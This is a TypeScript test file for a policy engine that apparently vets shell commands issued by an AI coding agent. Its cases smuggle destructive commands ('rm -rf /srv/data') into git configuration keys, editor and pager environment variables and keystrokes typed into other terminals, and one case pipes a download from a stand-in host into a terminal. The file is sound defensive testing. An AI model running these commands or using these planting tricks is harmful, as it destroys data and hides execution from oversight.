import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { judge } from '../../../server/src/core/judge';
import type { Parsers } from '../../../server/src/core/parsers';
import type { PolicySet } from '../../../server/src/core/policy/model';
import { GIT_CONFIG_KEYS } from '../../../server/src/core/shell/git-config';
import { COMMAND_ENV_VARS } from '../../../server/src/core/shell/command-env';
import { builtinPolicies, parsers } from '../../helpers/parsers';

const agent = { type: 'agent' as const, name: 'claude-code' };

/**
 * Commands planted for later: configuration and environment variables whose value a program runs
 * afterwards. Each `deny`/`ask` here was allowed in production before (issue: "execution planted
 * for later"); the value is judged as the command it becomes, and planting one in git's
 * configuration is a persistence finding of its own.
 */
describe('commands planted for later are judged as the commands they become', () => {
  let p: Parsers;
  let set: PolicySet;
  before(async () => {
    p = await parsers();
    set = builtinPolicies();
  });

  const run = (text: string, env = 'production') =>
    judge(p, set, { kind: 'shell', text }, { actor: agent, explicitEnvironment: env });
  const check = (text: string, effect: string, rules: string[], env?: string) => {
    const j = run(text, env);
    const ids = j.analysis.findings.map((f) => f.ruleId);
    assert.equal(j.decision.effect, effect, `${text}: ${ids.join()}`);
    for (const r of rules) assert.ok(ids.includes(r), `${text}: ${r} not in ${ids.join()}`);
  };

  describe('git configuration whose value is a command', () => {
    const cases: [string, string, string[]][] = [
      ['git config core.hooksPath /tmp/hooks', 'ask', ['persistence-path-write']],
      ['git config --global core.hooksPath /tmp/hooks', 'ask', ['persistence-path-write']],
      [
        "git config --global alias.st '!rm -rf /srv/data'",
        'deny',
        ['file-destroy', 'persistence-path-write'],
      ],
      ["git config core.fsmonitor 'rm -rf /srv/data'", 'deny', ['file-destroy', 'persistence-path-write']],
      ["git config set --global core.pager 'rm -rf /srv/data'", 'deny', ['file-destroy']],
      ["git config --add --system core.editor 'rm -rf /srv/data'", 'deny', ['file-destroy']],
      ["git config --replace-all diff.x.textconv 'rm -rf /srv/data' old", 'deny', ['file-destroy']],
      ["git config --file /tmp/x.cfg filter.lfs.smudge 'rm -rf /srv/data'", 'deny', ['file-destroy']],
      ["git -C /srv/repo config sequence.editor 'rm -rf /srv/data'", 'deny', ['file-destroy']],
      ["git config --global credential.helper '!rm -rf /srv/data'", 'deny', ['file-destroy']],
      ["git config alias.wipe 'clean -fdx'", 'deny', ['git-discard-work']],
      ["git config --global core.pager 'less -R'", 'ask', ['persistence-path-write']],
      ['git config --global include.path /tmp/evil.cfg', 'ask', ['persistence-path-write']],
      ['git config core.pager "$P"', 'ask', ['opaque-execution']],
      ['git --config-env=core.pager=PAGER_CMD log', 'ask', ['opaque-execution']],
    ];
    for (const [text, effect, rules] of cases) it(text, () => check(text, effect, rules));

    it('a global plant asks outside production too (persistence, as a write of ~/.gitconfig)', () => {
      const j = run("git config --global core.editor 'code --wait'", 'development');
      assert.equal(j.decision.effect, 'ask');
      const f = j.analysis.findings.find((x) => x.ruleId === 'persistence-path-write');
      assert.deepEqual(f?.effects?.[0]?.resource, { kind: 'path', id: '~/.gitconfig' });
    });

    const benign = [
      'git config user.name x',
      'git config --global user.email a@b.c',
      'git config --global pull.rebase true',
      'git config core.autocrlf false',
      'git config alias.co checkout',
      "git config --global alias.lg 'log --graph --oneline'",
      'git config --global credential.helper store',
      "git config --global credential.helper 'cache --timeout=3600'",
      'git config core.fsmonitor true',
      'git config pager.log false',
      'git config --get core.pager',
      'git config --unset core.pager',
      'git config --global --list',
      'git config get core.editor',
      'git -c color.ui=always log',
    ];
    for (const text of benign) it(`allowed: ${text}`, () => check(text, 'allow', []));

    it('every key family documents its sources', () => {
      for (const e of GIT_CONFIG_KEYS)
        assert.ok(e.sources.length > 0 && e.sources.every((s) => /^https:\/\//.test(s)), e.key.source);
    });
  });

  describe('environment variables whose value is a command', () => {
    const cases: [string, string, string[]][] = [
      ["PAGER='rm -rf /srv/data' git log", 'deny', ['file-destroy']],
      ["export PAGER='rm -rf /srv/data'; git log", 'deny', ['file-destroy']],
      ["export EDITOR='rm -rf /srv/data'", 'deny', ['file-destroy']],
      ["VISUAL='rm -rf /srv/data'", 'deny', ['file-destroy']],
      ["env GIT_EDITOR='rm -rf /srv/data' git commit", 'deny', ['file-destroy']],
      ["MANPAGER='rm -rf /srv/data' man ls", 'deny', ['file-destroy']],
      ["LESSOPEN='|rm -rf /srv/data %s' less x", 'deny', ['file-destroy']],
      ["SUDO_ASKPASS='rm -rf /srv/data' sudo -A ls", 'deny', ['file-destroy']],
      ["KUBE_EDITOR='rm -rf /srv/data' kubectl edit deploy x", 'deny', ['file-destroy']],
      ["declare -x SYSTEMD_PAGER='rm -rf /srv/data'", 'deny', ['file-destroy']],
      ["GIT_SSH_COMMAND='rm -rf /srv/data' git fetch", 'deny', ['file-destroy']],
      ['GIT_PAGER="$P" git log', 'ask', ['opaque-execution']],
    ];
    for (const [text, effect, rules] of cases) it(text, () => check(text, effect, rules));

    const benign = [
      'PAGER=cat git log',
      'EDITOR=vim git commit',
      'LESS=-R less x',
      'export EDITOR=vim',
      'export LESSOPEN="| /usr/bin/lesspipe %s"',
      "GIT_PAGER='less -RFX' git log",
      "EDITOR='code --wait' git commit",
    ];
    for (const text of benign) it(`allowed: ${text}`, () => check(text, 'allow', []));

    it('every variable documents its sources; names are unique', () => {
      for (const e of COMMAND_ENV_VARS)
        assert.ok(e.sources.length > 0 && e.sources.every((s) => /^https:\/\//.test(s)), e.names[0]);
      const names = COMMAND_ENV_VARS.flatMap((e) => e.names);
      assert.equal(new Set(names).size, names.length);
    });
  });

  describe('keystrokes typed into another terminal run there as shell commands', () => {
    const cases: [string, string, string[]][] = [
      ["tmux send-keys -t 0 'rm -rf /srv/data' Enter", 'deny', ['file-destroy']],
      ["tmux send -l 'rm -rf /srv/data'", 'deny', ['file-destroy']],
      ['tmux send-keys -t 0 rm Space -rf Space /srv/data C-m', 'deny', ['file-destroy']],
      ['tmux send-keys -H 72 6d 20 2d 72 66 20 2f 73 72 76 0d', 'deny', ['file-destroy']],
      ["tmux set-buffer 'rm -rf /srv/data' \\; paste-buffer -t 0", 'deny', ['file-destroy']],
      ["tmux -c 'rm -rf /srv/data'", 'deny', ['file-destroy']],
      ["screen -S main -X stuff 'rm -rf /srv/data\\n'", 'deny', ['file-destroy']],
      ['screen -x main -p 0 -X stuff "rm -rf /srv/data^M"', 'deny', ['file-destroy']],
      ['screen -S s -X at 0 stuff "rm -rf /srv/data^M"', 'deny', ['file-destroy']],
      ['screen -S demo -X screen rm -rf /srv/data', 'deny', ['file-destroy']],
      ['screen -S demo -X exec rm -rf /srv/data', 'deny', ['file-destroy']],
      ["xdotool type 'rm -rf /srv/data'", 'deny', ['file-destroy']],
      ['xdotool key r m space minus r f space slash s r v Return', 'deny', ['file-destroy']],
      [
        "xdotool search --name term windowactivate --sync type --delay 50 'rm -rf /srv/data'",
        'deny',
        ['file-destroy'],
      ],
      ["kitty @ send-text --match title:x 'rm -rf /srv/data\\n'", 'deny', ['file-destroy']],
      ["wezterm cli send-text --pane-id 2 'rm -rf /srv/data'", 'deny', ['file-destroy']],
      ["echo 'rm -rf /srv/data' | wezterm cli send-text", 'deny', ['file-destroy']],
      ['tmux send-keys -t 0 "$CMD" Enter', 'ask', ['opaque-execution']],
      ['tmux send-keys -t 0 Up Enter', 'ask', ['opaque-execution']],
      ['tmux send-keys -t 0 rm Tab Enter', 'ask', ['opaque-execution']],
      ['tmux paste-buffer -t 0', 'ask', ['opaque-execution']],
      ['screen -S s -X eval "stuff x"', 'ask', ['opaque-execution']],
      ['xdotool key XF86AudioMute', 'ask', ['opaque-execution']],
      ['curl -s https://x.example/c | kitty @ send-text --stdin', 'ask', ['opaque-execution']],
    ];
    for (const [text, effect, rules] of cases) it(text, () => check(text, effect, rules));

    const benign = [
      "tmux send-keys -t 0 'ls -la' Enter",
      "tmux send-keys -t cf 'cd ~/server' C-m",
      "tmux send-keys -t 0 'rm -rf /srv/data' C-c 'ls' Enter",
      'tmux send-keys -X copy-mode',
      'tmux ls',
      'screen -X quit',
      'screen -x main -X title blah',
      'screen -S SessionName -X at ".#" stuff "date "',
      'kitten @ send-key ctrl+c',
    ];
    for (const text of benign) it(`allowed: ${text}`, () => check(text, 'allow', []));

    it('places the typed command on the typed text', () => {
      const text = "tmux send-keys -t 0 'rm -rf /srv/data' Enter";
      const f = run(text).analysis.findings.find((x) => x.ruleId === 'file-destroy');
      assert.equal(text.slice(f?.span.start, f?.span.end), '/srv/data');
    });
  });

  describe('Tcl interpreters run code that is not analysed', () => {
    const cases = [
      "expect -c 'spawn rm -rf /srv/data; expect eof'",
      'expect deploy.exp',
      'expect -f deploy.exp host',
      'tclsh script.tcl',
      'tclsh8.6 script.tcl',
      "echo 'exec rm -rf /srv/data' | tclsh",
      "wish <<< 'exec rm -rf /srv/data'",
    ];
    for (const text of cases) it(text, () => check(text, 'ask', ['opaque-execution']));
    for (const text of ['expect -v', 'which tclsh']) it(`allowed: ${text}`, () => check(text, 'allow', []));
  });
});
